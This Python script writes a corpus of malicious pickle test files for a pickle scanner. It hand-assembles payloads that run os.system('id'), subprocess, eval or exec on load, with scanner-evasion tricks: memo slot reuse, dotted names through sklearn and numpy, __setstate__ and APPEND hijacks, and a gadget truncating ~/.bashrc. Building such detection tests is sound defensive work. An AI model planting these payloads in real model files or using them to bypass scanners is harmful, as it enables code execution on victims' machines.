#!/usr/bin/python3
"""Write the malicious pickle corpus into tests/malicious/corpus/.

    /usr/bin/python3 tests/malicious/gen_corpus.py [--out DIR]

Every file is written opcode by opcode (nothing is ever unpickled; the
pickle module is not used to write them either, except where a real
``joblib.dump`` / ``pickle.dumps`` of a benign object is the carrier and the
payload is spliced into it).  Each ``NAME.pkl`` / ``NAME.joblib`` gets a
sidecar ``NAME.expect.json``:

    {"technique": "...",
     "dangerous": ["module:qualname", ...],   # every dangerous global the
                                              # file names, after the
                                              # protocol < 3 name mapping
     "calls": [["module:qualname" | null, [args...]], ...],
                                              # calls `trace` must show, in
                                              # order, args as graph-json
                                              # values; null = the callable
                                              # is not a global (the result
                                              # of an earlier call, ...)
     "load_exit": 1,                          # picklevm load's exit status
     "notes": "...",
     # optional:
     "findings": [{"use": "extension-code", "detail": "1"}, ...],
                                              # non-global findings scan
                                              # must report
     "kwargs": {"<call index>": {...}}        # keyword arguments a call
                                              # must carry (checked in the
                                              # graph's $call records)
    }

In an expected argument, a ``{"$call": {...}}`` / ``{"$object": {...}}``
record is matched as a subset (only the fields written must be equal), and
``{"$global": "m:q"}`` / ``{"$bytes": "<base64>"}`` etc. exactly as
graph-json.md writes them.  ``$id`` / ``$value`` wrappers and ``$ref``s in
picklevm's output are resolved before comparing.

Needs joblib, numpy and scikit-learn importable by /usr/bin/python3 for the
few carriers made with the real libraries (joblib object arrays, compressed
joblib files, a LogisticRegression pickle); the payloads themselves are
stdlib-only bytes.
"""

import os
import sys

PY = "/usr/bin/python3"
if os.path.realpath(sys.executable) != os.path.realpath(PY):
    os.execv(PY, [PY, "-s", os.path.abspath(__file__)] + sys.argv[1:])

sys.dont_write_bytecode = True

import argparse      # noqa: E402
import base64        # noqa: E402
import bz2           # noqa: E402
import gzip          # noqa: E402
import io            # noqa: E402
import json          # noqa: E402
import lzma          # noqa: E402
import marshal       # noqa: E402
import struct        # noqa: E402
import zlib          # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))

# ---------------------------------------------------------------------------
# Opcodes, one helper each.

MARK = b"("
STOP = b"."
POP = b"0"
POP_MARK = b"1"
DUP = b"2"
TUPLE = b"t"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
TUPLE3 = b"\x87"
EMPTY_TUPLE = b")"
REDUCE = b"R"
BUILD = b"b"
OBJ = b"o"
NEWOBJ = b"\x81"
NEWOBJ_EX = b"\x92"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"
EMPTY_LIST = b"]"
APPEND = b"a"
APPENDS = b"e"
LIST = b"l"
EMPTY_DICT = b"}"
DICT = b"d"
SETITEM = b"s"
SETITEMS = b"u"
EMPTY_SET = b"\x8f"
ADDITEMS = b"\x90"
FROZENSET = b"\x91"
NONE = b"N"
NEWTRUE = b"\x88"
NEWFALSE = b"\x89"
BINPERSID = b"Q"


def PROTO(n):
    return b"\x80" + bytes([n])


def FRAME(n):
    return b"\x95" + struct.pack("<Q", n)


def GLOBAL(module, name):
    return b"c" + module.encode("utf-8") + b"\n" + name.encode("utf-8") + b"\n"


def INST(module, name):
    return b"i" + module.encode("utf-8") + b"\n" + name.encode("utf-8") + b"\n"


def SBU(s):
    b = s.encode("utf-8")
    assert len(b) < 256
    return b"\x8c" + bytes([len(b)]) + b


def BU(s):
    b = s.encode("utf-8")
    return b"X" + struct.pack("<I", len(b)) + b


def UNICODE(s):
    # protocol 0 text: raw-unicode-escape, as CPython's pickler writes it
    t = s.replace("\\", "\\u005c").replace("\n", "\\u000a").replace("\r", "\\u000d")
    return b"V" + t.encode("raw-unicode-escape") + b"\n"


def STRING(s):
    return b"S" + repr(s).encode("ascii") + b"\n"


def SHORT_BINSTRING(s):
    b = s.encode("latin-1")
    return b"U" + bytes([len(b)]) + b


def SHORT_BINBYTES(b):
    assert len(b) < 256
    return b"C" + bytes([len(b)]) + b


def BINBYTES(b):
    return b"B" + struct.pack("<I", len(b)) + b


def BININT1(i):
    return b"K" + bytes([i])


def BININT(i):
    return b"J" + struct.pack("<i", i)


def INT(i):
    return b"I" + str(i).encode() + b"\n"


def BINFLOAT(f):
    return b"G" + struct.pack(">d", f)


def PUT(i):
    return b"p" + str(i).encode() + b"\n"


def GET(i):
    return b"g" + str(i).encode() + b"\n"


def BINPUT(i):
    return b"q" + bytes([i])


def BINGET(i):
    return b"h" + bytes([i])


def LONG_BINPUT(i):
    return b"r" + struct.pack("<I", i)


def LONG_BINGET(i):
    return b"j" + struct.pack("<I", i)


def EXT1(c):
    return b"\x82" + bytes([c])


def EXT2(c):
    return b"\x83" + struct.pack("<H", c)


def EXT4(c):
    return b"\x84" + struct.pack("<i", c)


def PERSID(s):
    return b"P" + s.encode("ascii") + b"\n"


def framed(proto, body):
    """PROTO n, one FRAME around the body (which ends with STOP)."""
    return PROTO(proto) + FRAME(len(body)) + body


# ---------------------------------------------------------------------------
# A small pickler for payload trees, with the expected graph-json values.

class G:
    """A global.  `expect` is its name after the protocol < 3 mapping."""

    def __init__(self, module, name, expect=None):
        self.module, self.name = module, name
        self.expect = expect or "%s:%s" % (module, name)


class Call:
    """A call.  kind: reduce | inst | obj | newobj | newobj_ex."""

    def __init__(self, func, *args, kind="reduce", kwargs=None, state=None):
        self.func, self.args, self.kind = func, args, kind
        self.kwargs, self.state = kwargs, state


class Raw:
    """Opcodes pasted verbatim; `value` is the expected graph value."""

    def __init__(self, data, value=None):
        self.data, self.value = data, value


class Pickler:
    def __init__(self, proto, memo=False):
        self.proto, self.memo = proto, memo
        self.n = 0

    def put(self):
        if not self.memo:
            return b""
        i = self.n
        self.n += 1
        if self.proto >= 4:
            return MEMOIZE
        if self.proto >= 1:
            return BINPUT(i) if i < 256 else LONG_BINPUT(i)
        return PUT(i)

    def dumps(self, v, frame=True):
        body = self.enc(v) + STOP
        if self.proto >= 4 and frame:
            return framed(self.proto, body)
        if self.proto >= 2:
            return PROTO(self.proto) + body
        return body

    def text(self, s):
        if self.proto == 0:
            return UNICODE(s) + self.put()
        if self.proto >= 4 and len(s.encode()) < 256:
            return SBU(s) + self.put()
        return BU(s) + self.put()

    def enc(self, v):
        p = self.proto
        if isinstance(v, Raw):
            return v.data
        if v is None:
            return NONE
        if v is True or v is False:
            if p >= 2:
                return NEWTRUE if v else NEWFALSE
            return b"I01\n" if v else b"I00\n"
        if isinstance(v, int):
            if p == 0:
                return INT(v)
            if 0 <= v < 256:
                return BININT1(v)
            return BININT(v)
        if isinstance(v, float):
            if p == 0:
                return b"F" + repr(v).encode() + b"\n"
            return BINFLOAT(v)
        if isinstance(v, str):
            return self.text(v)
        if isinstance(v, bytes):
            if p >= 3:
                return (SHORT_BINBYTES(v) if len(v) < 256 else BINBYTES(v)) + self.put()
            # protocols 0-2: _codecs.encode(text, 'latin1')
            return self.enc(Call(G("_codecs", "encode"), v.decode("latin-1"), "latin1"))
        if isinstance(v, tuple):
            if p >= 2 and len(v) <= 3:
                if not v:
                    return EMPTY_TUPLE
                return b"".join(self.enc(x) for x in v) + [TUPLE1, TUPLE2, TUPLE3][len(v) - 1] + self.put()
            return MARK + b"".join(self.enc(x) for x in v) + TUPLE + self.put()
        if isinstance(v, list):
            if p == 0:
                return MARK + LIST + self.put() + b"".join(self.enc(x) + APPEND for x in v)
            out = EMPTY_LIST + self.put()
            if v:
                out += MARK + b"".join(self.enc(x) for x in v) + APPENDS
            return out
        if isinstance(v, dict):
            if p == 0:
                out = MARK + DICT + self.put()
                for k, x in v.items():
                    out += self.enc(k) + self.enc(x) + SETITEM
                return out
            out = EMPTY_DICT + self.put()
            if v:
                out += MARK + b"".join(self.enc(k) + self.enc(x) for k, x in v.items()) + SETITEMS
            return out
        if isinstance(v, G):
            if p >= 4:
                return self.text(v.module) + self.text(v.name) + STACK_GLOBAL + self.put()
            return GLOBAL(v.module, v.name) + self.put()
        if isinstance(v, Call):
            out = self.call(v)
            if v.state is not None:
                out += self.enc(v.state) + BUILD
            return out
        raise TypeError(v)

    def call(self, c):
        args = tuple(c.args)
        if c.kind == "reduce":
            return self.enc(c.func) + self.enc(args) + REDUCE + self.put()
        if c.kind == "inst":
            assert isinstance(c.func, G)
            return MARK + b"".join(self.enc(a) for a in args) + INST(c.func.module, c.func.name) + self.put()
        if c.kind == "obj":
            return MARK + self.enc(c.func) + b"".join(self.enc(a) for a in args) + OBJ + self.put()
        if c.kind == "newobj":
            return self.enc(c.func) + self.enc(args) + NEWOBJ + self.put()
        if c.kind == "newobj_ex":
            return self.enc(c.func) + self.enc(args) + self.enc(c.kwargs or {}) + NEWOBJ_EX + self.put()
        raise ValueError(c.kind)


def b64(b):
    return base64.b64encode(b).decode("ascii")


def expect(v):
    """The graph-json value picklevm should print for a payload tree."""
    if isinstance(v, Raw):
        return v.value
    if v is None or isinstance(v, (bool, int, float, str)):
        return v
    if isinstance(v, bytes):
        return {"$bytes": b64(v)}
    if isinstance(v, tuple):
        return {"$tuple": [expect(x) for x in v]}
    if isinstance(v, list):
        return [expect(x) for x in v]
    if isinstance(v, dict):
        if all(isinstance(k, str) and not k.startswith("$") for k in v):
            return {k: expect(x) for k, x in v.items()}
        return {"$dict": [[expect(k), expect(x)] for k, x in v.items()]}
    if isinstance(v, G):
        return {"$global": v.expect}
    if isinstance(v, Call):
        rec = {"callable": v.func.expect if isinstance(v.func, G) else expect(v.func),
               "args": [expect(a) for a in v.args]}
        if v.kwargs:
            rec["kwargs"] = {k: expect(x) for k, x in v.kwargs.items()}
        if v.state is not None:
            rec["state"] = expect(v.state)
        return {"$call": rec}
    raise TypeError(v)


def calls_of(v, out=None):
    """The calls the tree makes, in the order the unpickler makes them."""
    if out is None:
        out = []
    if isinstance(v, (tuple, list)):
        for x in v:
            calls_of(x, out)
    elif isinstance(v, dict):
        for k, x in v.items():
            calls_of(k, out)
            calls_of(x, out)
    elif isinstance(v, Call):
        calls_of(v.func, out)
        for a in v.args:
            calls_of(a, out)
        if v.kwargs:
            calls_of(v.kwargs, out)
        name = v.func.expect if isinstance(v.func, G) else None
        out.append([name, [expect(a) for a in v.args]])
        if v.state is not None:
            calls_of(v.state, out)
    return out


# ---------------------------------------------------------------------------
# The corpus.

CORPUS = []   # (name, data, meta)


def add(name, data, technique, dangerous, calls, load_exit=1, notes="", **extra):
    assert all(n != name for n, _, _ in CORPUS), name
    meta = {"technique": technique, "dangerous": dangerous, "calls": calls,
            "load_exit": load_exit, "notes": notes}
    meta.update(extra)
    CORPUS.append((name, bytes(data), meta))


def tree(name, proto, v, technique, dangerous, calls=None, notes="", memo=False,
         frame=True, **kw):
    """A file whose whole content is the pickle of a payload tree; the
    expected calls are derived from the tree unless given."""
    data = Pickler(proto, memo).dumps(v, frame=frame)
    if calls is None:
        calls = [c for c in calls_of(v) if c[0] != "_codecs:encode"]
    add(name + ".pkl", data, technique, dangerous, calls, notes=notes, **kw)


CMD = "id"
SRC = "__import__('os').system('id')"
SRC_STMT = "import os; os.system('id')"

os_system = G("os", "system")


def call(mod, name, *args, **kw):
    return Call(G(mod, name), *args, **kw)


def gen_basic():
    # os.system at every protocol, each as its era's pickler spells it.
    add("os_system_p0.pkl",
        GLOBAL("os", "system") + PUT(0) + MARK + STRING(CMD) + PUT(1) + TUPLE + PUT(2) + REDUCE + PUT(3) + STOP,
        "os.system('id') via GLOBAL/MARK/STRING/TUPLE/REDUCE, protocol 0 (no PROTO opcode)",
        ["os:system"], [["os:system", ["id"]]])
    add("os_system_p1.pkl",
        GLOBAL("os", "system") + BINPUT(0) + MARK + SHORT_BINSTRING(CMD) + BINPUT(1) + TUPLE + BINPUT(2) + REDUCE + BINPUT(3) + STOP,
        "os.system('id') with protocol 1 opcodes (SHORT_BINSTRING, BINPUT), no PROTO",
        ["os:system"], [["os:system", ["id"]]])
    tree("os_system_p2", 2, Call(os_system, CMD),
         "os.system('id') via GLOBAL/BINUNICODE/TUPLE1/REDUCE, protocol 2", ["os:system"], memo=True)
    tree("os_system_p3", 3, Call(os_system, CMD),
         "os.system('id'), protocol 3", ["os:system"])
    tree("os_system_p4", 4, Call(os_system, CMD),
         "os.system('id') via STACK_GLOBAL/MEMOIZE inside a FRAME, protocol 4", ["os:system"], memo=True)
    add("os_system_p5_global_opcode.pkl",
        PROTO(5) + GLOBAL("os", "system") + SBU(CMD) + TUPLE1 + REDUCE + STOP,
        "os.system('id') with the old GLOBAL opcode in a protocol 5 stream",
        ["os:system"], [["os:system", ["id"]]])
    tree("posix_system", 2, call("posix", "system", CMD),
         "posix.system (os.system's real home on Linux)", ["posix:system"])
    tree("nt_system", 2, call("nt", "system", "calc.exe"),
         "nt.system (Windows)", ["nt:system"])
    tree("subprocess_popen_list", 4, call("subprocess", "Popen", ["/bin/sh", "-c", CMD]),
         "subprocess.Popen with a list argv", ["subprocess:Popen"], memo=True)
    tree("subprocess_check_output_list", 3, call("subprocess", "check_output", ["id"]),
         "subprocess.check_output(['id'])", ["subprocess:check_output"])
    tree("subprocess_run_list", 2, call("subprocess", "run", ["sh", "-c", CMD]),
         "subprocess.run(['sh','-c','id'])", ["subprocess:run"])
    tree("os_execvp", 2, call("os", "execvp", "sh", ["sh", "-c", CMD]),
         "os.execvp replaces the process", ["os:execvp"])
    tree("os_popen", 0, call("os", "popen", CMD),
         "os.popen('id'), protocol 0", ["os:popen"])


def gen_builtins():
    tree("builtins_eval", 2, call("builtins", "eval", SRC),
         "builtins.eval of source text", ["builtins:eval"])
    tree("builtins_exec", 4, call("builtins", "exec", SRC_STMT),
         "builtins.exec of source text", ["builtins:exec"], memo=True)
    tree("builtins_compile_exec", 4,
         call("builtins", "exec", call("builtins", "compile", SRC_STMT, "<pvm>", "exec")),
         "exec(compile(src, '<pvm>', 'exec')): a call's result as another call's argument",
         ["builtins:exec", "builtins:compile"])
    tree("builtins_import", 2, call("builtins", "__import__", "os", None, None, ["system"], 0),
         "builtins.__import__('os', None, None, ['system'], 0)", ["builtins:__import__"])
    tree("builtins_getattr_chain", 2,
         Call(call("builtins", "getattr", call("builtins", "__import__", "os"), "system"), CMD),
         "getattr(__import__('os'), 'system')('id'): a call on a call's result",
         ["builtins:getattr", "builtins:__import__"])
    tree("builtins_globals", 4,
         Call(call("builtins", "getattr",
                   call("operator", "getitem", call("builtins", "globals"), "__builtins__"), "exec"),
              SRC_STMT),
         "builtins.globals() of the unpickler's caller, its __builtins__, getattr 'exec', then called",
         ["builtins:globals", "operator:getitem", "builtins:getattr"])
    tree("sys_modules_get", 4,
         Call(call("operator", "attrgetter", "system"),
              Call(G("sys", "modules.get"), "os")),
         "sys.modules.get('os') through a dotted protocol-4 name, then attrgetter('system')",
         ["sys:modules.get", "operator:attrgetter"])
    tree("builtins_object_subclasses", 4,
         call("operator", "getitem", Call(G("builtins", "object.__subclasses__")), 137),
         "object.__subclasses__() -- builtins:object is admitted for reference; the dotted dunder is not",
         ["builtins:object.__subclasses__", "operator:getitem"])
    add("builtins_dict_get_global_opcode.pkl",
        PROTO(4) + GLOBAL("builtins", "__dict__.get") + SBU("exec") + TUPLE1 + REDUCE
        + SBU(SRC_STMT) + TUPLE1 + REDUCE + STOP,
        "builtins.__dict__.get('exec') via the GLOBAL opcode with a dotted name at protocol 4, then calling it",
        ["builtins:__dict__.get"],
        [["builtins:__dict__.get", ["exec"]], [None, [SRC_STMT]]])
    tree("builtins_setattr", 4,
         call("builtins", "setattr", G("subprocess", "Popen"), "__del__", G("os", "system")),
         "setattr on a class: monkey-patching through a call",
         ["builtins:setattr", "subprocess:Popen", "os:system"])


def gen_memo():
    # STACK_GLOBAL whose operands come back from the memo (BINGET), after
    # being stored inside an innocent-looking list.
    data = (PROTO(4) + EMPTY_LIST + BINPUT(0) + MARK + SBU("os") + BINPUT(1) + SBU("system") + BINPUT(2)
            + APPENDS + BINGET(1) + BINGET(2) + STACK_GLOBAL + SBU(CMD) + TUPLE1 + REDUCE + APPEND + STOP)
    add("stack_global_memo_operands.pkl", data,
        "STACK_GLOBAL whose module and name are fetched with BINGET from the memo",
        ["os:system"], [["os:system", ["id"]]])
    # Mixed PUT / BINPUT / LONG_BINPUT / MEMOIZE, slots written out of order.
    data = (PROTO(4) + SBU("subprocess") + BINPUT(7) + POP      # memo {7}
            + SBU("check_output") + MEMOIZE + POP                 # len(memo)=1 -> slot 1
            + SBU("ignored") + PUT(40) + POP                      # slot 40
            + SBU("id") + LONG_BINPUT(3) + POP                    # slot 3
            + LONG_BINGET(7) + GET(1) + STACK_GLOBAL + MEMOIZE    # len=4 -> slot 4
            + EMPTY_LIST + BINGET(3) + APPEND + TUPLE1 + REDUCE + STOP)
    add("memo_mixed_out_of_order.pkl", data,
        "PUT, BINPUT, LONG_BINPUT and MEMOIZE mixed, slots 7,1,40,3,4 written out of order; MEMOIZE uses len(memo)",
        ["subprocess:check_output"], [["subprocess:check_output", [["id"]]]])
    # MEMOIZE overwriting a slot a BINPUT wrote: memo = {1: 'numpy'};
    # MEMOIZE stores at len(memo) == 1, replacing 'numpy' with 'os'.
    data = (PROTO(4) + SBU("numpy") + BINPUT(1) + POP
            + SBU("os") + MEMOIZE + POP          # slot 1 := 'os'
            + SBU("dtype") + BINPUT(0) + POP     # slot 0 := 'dtype'
            + SBU("system") + MEMOIZE + POP      # len(memo) == 2 -> slot 2 := 'system'
            + BINGET(1) + BINGET(2) + STACK_GLOBAL + SBU(CMD) + TUPLE1 + REDUCE + STOP)
    add("memoize_overwrites_binput.pkl", data,
        "MEMOIZE stores at len(memo) and silently replaces slot 1 ('numpy' -> 'os'); a counter-based scanner sees numpy",
        ["os:system"], [["os:system", ["id"]]])
    # The callable comes back from the memo after its GLOBAL was POPped.
    data = (GLOBAL("os", "system") + PUT(0) + POP + MARK + LIST + GET(0) + MARK
            + UNICODE(CMD) + TUPLE + REDUCE + APPEND + STOP)
    add("memo_callable_after_pop.pkl", data,
        "GLOBAL os.system PUT then POP; later GET brings it back for REDUCE",
        ["os:system"], [["os:system", ["id"]]], notes="protocol 0; POP of a bare global, REDUCE inside a list")
    data = (PROTO(2) + GLOBAL("os", "system") + DUP + POP + SBU_p2(CMD) + TUPLE1 + REDUCE + STOP)
    add("dup_callable.pkl", data,
        "DUP of the global, one copy POPped, the other called",
        ["os:system"], [["os:system", ["id"]]])
    data = (PROTO(4) + SBU("os") + LONG_BINPUT(0xFFFFFFFF) + SBU("popen") + LONG_BINPUT(0x7FFFFFFF) + POP + POP
            + LONG_BINGET(0xFFFFFFFF) + LONG_BINGET(0x7FFFFFFF) + STACK_GLOBAL + SBU(CMD) + TUPLE1 + REDUCE + STOP)
    add("long_binput_huge_slots.pkl", data,
        "operands stored in memo slots 0xFFFFFFFF and 0x7FFFFFFF (LONG_BINPUT/LONG_BINGET)",
        ["os:popen"], [["os:popen", ["id"]]])


def SBU_p2(s):
    return BU(s)


def gen_call_opcodes():
    add("inst_os_system.pkl",
        MARK + STRING(CMD) + INST("os", "system") + STOP,
        "INST opcode instead of GLOBAL+REDUCE (protocol 0)",
        ["os:system"], [["os:system", ["id"]]])
    add("obj_os_system.pkl",
        MARK + GLOBAL("os", "system") + SHORT_BINSTRING(CMD) + OBJ + STOP,
        "OBJ opcode instead of REDUCE (protocol 1)",
        ["os:system"], [["os:system", ["id"]]])
    tree("newobj_os_system", 2, Call(os_system, CMD, kind="newobj"),
         "NEWOBJ with os.system as the class (cls.__new__(cls, *args))", ["os:system"])
    v = Call(G("subprocess", "Popen"), ["id"], kind="newobj_ex", kwargs={"shell": False})
    tree("newobj_ex_popen_kwargs", 4, v,
         "NEWOBJ_EX with positional and keyword arguments", ["subprocess:Popen"],
         kwargs={"0": {"shell": False}})
    data = (PROTO(2) + EMPTY_DICT + GLOBAL("os", "system") + BU(CMD) + TUPLE1 + REDUCE + POP + STOP)
    add("reduce_result_popped.pkl", data,
        "a call whose result is immediately POPped; the root is an empty dict",
        ["os:system"], [["os:system", ["id"]]])
    data = (PROTO(2) + NONE + MARK + GLOBAL("os", "system") + BU(CMD) + TUPLE1 + REDUCE + POP_MARK + STOP)
    add("reduce_pop_mark.pkl", data,
        "a call made inside a MARK that POP_MARK throws away; the root is None",
        ["os:system"], [["os:system", ["id"]]])
    tree("reference_only_in_dict", 4, {"callback": os_system, "n": 1},
         "os.system only referenced (a dict value), never called", ["os:system"])
    tree("call_as_dict_key", 4, {Call(os_system, CMD): 1},
         "the call's result used as a dict key", ["os:system"])
    data = (PROTO(4) + EMPTY_SET + MARK + SBU("os") + SBU("system") + STACK_GLOBAL + SBU(CMD) + TUPLE1 + REDUCE
            + ADDITEMS + STOP)
    add("call_in_set_additems.pkl", data,
        "the call made inside EMPTY_SET/MARK/ADDITEMS", ["os:system"], [["os:system", ["id"]]])
    data = (PROTO(4) + MARK + SBU("os") + SBU("system") + STACK_GLOBAL + SBU(CMD) + TUPLE1 + REDUCE
            + FROZENSET + STOP)
    add("call_in_frozenset.pkl", data,
        "the call made inside MARK/FROZENSET", ["os:system"], [["os:system", ["id"]]])
    depth = 20000
    data = (PROTO(4) + EMPTY_LIST * depth + GLOBAL("os", "system") + SBU(CMD) + TUPLE1 + REDUCE
            + APPEND * depth + STOP)
    add("deeply_nested_payload.pkl", data,
        "the call buried 20000 lists deep", ["os:system"], [["os:system", ["id"]]])


def gen_dotted():
    tree("os_path_join_globals_eval", 4,
         call("builtins", "eval", "os.system('id')", G("os.path", "join.__globals__")),
         "eval with os.path.join.__globals__ (posixpath's module dict, which holds os) as globals",
         ["builtins:eval", "os.path:join.__globals__"])
    tree("os_path_os_system", 4, Call(G("os.path", "os.system"), CMD),
         "os.path:os.system -- posixpath imports os, so the dotted name walks to os.system",
         ["os.path:os.system"])
    tree("numpy_builtins_get", 4,
         Call(Call(G("numpy", "__builtins__.get"), "eval"), SRC),
         "numpy.__builtins__.get('eval')(src): a dunder path under an admitted module",
         ["numpy:__builtins__.get"])
    tree("copyreg_newobj_globals", 4,
         Call(call("operator", "getitem", Call(G("copyreg", "__newobj__.__globals__.get"), "__builtins__"), "eval"), SRC),
         "copyreg.__newobj__ is admitted; __newobj__.__globals__.get is not",
         ["copyreg:__newobj__.__globals__.get", "operator:getitem"])
    tree("sklearn_dunder_builtins", 4,
         Call(Call(G("sklearn", "__builtins__.get"), "exec"), SRC_STMT),
         "sklearn.__builtins__.get('exec'): a dunder component under the sklearn namespace",
         ["sklearn:__builtins__.get"])
    tree("sklearn_module_os_system", 4, Call(G("sklearn", "os.system"), CMD),
         "sklearn:os.system -- sklearn/__init__ imports os; a pattern like sklearn\\..* must not admit it",
         ["sklearn:os.system"])
    tree("sklearn_datasets_os_popen", 4,
         Call(G("sklearn.datasets._base", "os.popen"), CMD, kind="newobj"),
         "NEWOBJ on sklearn.datasets._base:os.popen (instantiate use of a module attribute path)",
         ["sklearn.datasets._base:os.popen"])
    tree("numpy_ndarray_tofile", 4,
         Call(G("numpy", "ndarray.tofile"), call("numpy", "zeros", 16), "/tmp/pvm_written"),
         "numpy.ndarray.tofile -- a method of an admitted class, called (writes a file)",
         ["numpy:ndarray.tofile"])
    tree("numpy_testing_runstring", 4,
         call("numpy.testing._private.utils", "runstring", SRC_STMT, {}),
         "numpy.testing's runstring = exec(astr, dict)", ["numpy.testing._private.utils:runstring"])
    # Dotted qualname reached after the stream switches protocol mid-way:
    # PROTO 2 first (dotted names illegal), then PROTO 4.
    data = (PROTO(2) + EMPTY_LIST + PROTO(4) + GLOBAL("os.path", "os.system") + BU(CMD) + TUPLE1 + REDUCE
            + APPEND + STOP)
    add("proto_switch_dotted.pkl", data,
        "PROTO 2 then PROTO 4 mid-stream; the dotted name is legal once the second PROTO has run",
        ["os.path:os.system"], [["os.path:os.system", ["id"]]])
    data = (PROTO(4) + EMPTY_LIST + PROTO(2) + GLOBAL("__builtin__", "eval") + BU(SRC) + TUPLE1 + REDUCE
            + APPEND + STOP)
    add("proto_switch_py2_names.pkl", data,
        "PROTO 4 then PROTO 2 mid-stream; CPython's fix_imports maps __builtin__ -> builtins for this GLOBAL",
        ["builtins:eval"], [["builtins:eval", [SRC]]])


def gen_build():
    # BUILD (None, {'__setstate__': os.system}) on an instance, then a second
    # BUILD whose state is handed to the instance's __setstate__ = os.system.
    data = (PROTO(4) + SBU("types") + SBU("SimpleNamespace") + STACK_GLOBAL + EMPTY_TUPLE + NEWOBJ
            + NONE + EMPTY_DICT + SBU("__setstate__") + SBU("os") + SBU("system") + STACK_GLOBAL + SETITEM
            + TUPLE2 + BUILD + SBU(CMD) + BUILD + STOP)
    add("build_setstate_on_object.pkl", data,
        "BUILD slot state sets __setstate__ = os.system on an instance; a second BUILD calls os.system('id')",
        ["os:system"], [["os:system", ["id"]]],
        notes="CPython: load_build looks up inst.__setstate__ (an instance attribute) and calls it with the second state")
    # The same on a class: setattr(argparse.Namespace, '__setstate__', os.system),
    # then a new instance's BUILD calls it.
    data = (PROTO(4) + EMPTY_LIST + SBU("argparse") + SBU("Namespace") + STACK_GLOBAL + MEMOIZE
            + NONE + EMPTY_DICT + SBU("__setstate__") + GLOBAL("os", "system") + SETITEM + TUPLE2 + BUILD
            + APPEND + BINGET(0) + EMPTY_TUPLE + NEWOBJ + SBU(CMD) + BUILD + APPEND + STOP)
    add("build_setstate_on_class.pkl", data,
        "BUILD on a class object sets the class attribute __setstate__ = os.system; a later instance's BUILD calls it",
        ["os:system", "argparse:Namespace"], [["os:system", ["id"]]],
        notes="the first BUILD targets the global itself (class attribute), the second a fresh instance")
    data = (PROTO(2) + GLOBAL("types", "SimpleNamespace") + EMPTY_TUPLE + NEWOBJ
            + NONE + EMPTY_DICT + BU("__reduce__") + GLOBAL("os", "system") + SETITEM
            + BU("__reduce_ex__") + GLOBAL("subprocess", "getoutput") + SETITEM + TUPLE2 + BUILD + STOP)
    add("build_sets_reduce.pkl", data,
        "BUILD slot state plants __reduce__/__reduce_ex__ on an instance (fires when the object is re-pickled)",
        ["os:system", "subprocess:getoutput"], [])
    # Attribute hijack of APPEND: an instance whose __dict__ gets 'append'.
    data = (PROTO(4) + SBU("sklearn.linear_model._logistic") + SBU("LogisticRegression") + STACK_GLOBAL
            + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + SBU("append") + SBU("sklearn") + SBU("os.system") + STACK_GLOBAL
            + SETITEM + BUILD + SBU(CMD) + APPEND + STOP)
    add("sklearn_append_hijack.pkl", data,
        "an estimator's state sets instance attribute append = sklearn:os.system; APPEND then calls inst.append('id')",
        ["sklearn:os.system"], [],
        notes="CPython's load_append calls obj.append(x) on anything that is not a list; the call is os.system('id'). "
              "A trace could show it as a call; only the reference is required here.")


def gen_sklearn_gadgets():
    # Only names the sklearn pattern admits: an estimator whose state sets
    # the instance attribute `append` to a bound method
    # MethodType(GzipFile, path) (both re-exported by sklearn modules);
    # APPEND on the instance then runs GzipFile(path, 'wb'), which
    # truncates the file.
    data = (PROTO(4) + SBU("sklearn.linear_model._logistic") + SBU("LogisticRegression") + STACK_GLOBAL
            + EMPTY_TUPLE + NEWOBJ
            + EMPTY_DICT + SBU("append")
            + SBU("sklearn.utils._available_if") + SBU("MethodType") + STACK_GLOBAL
            + SBU("sklearn.datasets._covtype") + SBU("GzipFile") + STACK_GLOBAL
            + SBU("/home/victim/.bashrc") + TUPLE2 + NEWOBJ
            + SETITEM + BUILD + SBU("wb") + APPEND + STOP)
    add("sklearn_gadget_methodtype_gzipfile.pkl", data,
        "only sklearn-pattern names: LogisticRegression state sets append = MethodType(GzipFile, path) "
        "(types.MethodType and gzip.GzipFile re-exported by sklearn modules); APPEND 'wb' then calls "
        "GzipFile('/home/victim/.bashrc', 'wb'), truncating the file",
        ["sklearn.utils._available_if:MethodType", "sklearn.datasets._covtype:GzipFile"], [],
        notes="CPython's load_append calls obj.append(x) (after looking for obj.extend) on anything that is not "
              "a list; BaseEstimator.__setstate__ puts 'append' in the instance __dict__. The pattern "
              "sklearn\\..*:_?[A-Z]... admits any CapitalizedName attribute of an sklearn module, "
              "including classes sklearn merely imports.")


def gen_ext_persid():
    for op, code, name in ((EXT1, 1, "ext1"), (EXT2, 0x1234, "ext2"), (EXT4, 0x12345678, "ext4")):
        data = PROTO(2) + op(code) + BU(CMD) + TUPLE1 + REDUCE + STOP
        add("%s_code_call.pkl" % name, data,
            "%s extension code %d (copyreg's registry names the global) called with 'id'" % (name.upper(), code),
            [], [[None, ["id"]]], findings=[{"use": "extension-code", "detail": str(code)}])
    add("persid_text_call.pkl", PERSID("os.system") + MARK + STRING(CMD) + TUPLE + REDUCE + STOP,
        "PERSID 'os.system': persistent_load decides what it is; the result is called",
        [], [[None, ["id"]]], findings=[{"use": "persistent-id"}])
    tree_data = Pickler(4).enc(("storage", Call(os_system, CMD), "cpu", 4))
    data = framed(4, tree_data + BINPERSID + STOP)
    add("binpersid_torch_storage_call.pkl", data,
        "BINPERSID with a torch-like ('storage', <call>, 'cpu', 4) id; the call runs before persistent_load",
        ["os:system"], [["os:system", ["id"]]], findings=[{"use": "persistent-id"}])


def gen_stream_tricks():
    data = (PROTO(2) + GLOBAL("os", "system") + BU(CMD) + TUPLE1 + REDUCE
            + b"\xff\xfe garbage" + STOP)
    add("payload_before_broken_bytes.pkl", data,
        "the payload, then an invalid opcode (0xff): strict load refuses at the global first; scan still says unsafe",
        ["os:system"], [["os:system", ["id"]]])
    benign = PROTO(4) + EMPTY_DICT + SBU("ok") + NEWTRUE + SETITEM + STOP
    evil = Pickler(2).dumps(Call(G("subprocess", "getoutput"), CMD))
    add("payload_after_first_stop.pkl", benign + evil,
        "a benign pickle, then a second pickle with the payload (a loader calling load() twice runs it)",
        ["subprocess:getoutput"], [["subprocess:getoutput", ["id"]]], load_exit=0,
        notes="strict load runs only the first pickle: exit 0 and a warning about bytes after STOP")
    # Only a reference, then broken bytes / EOF.
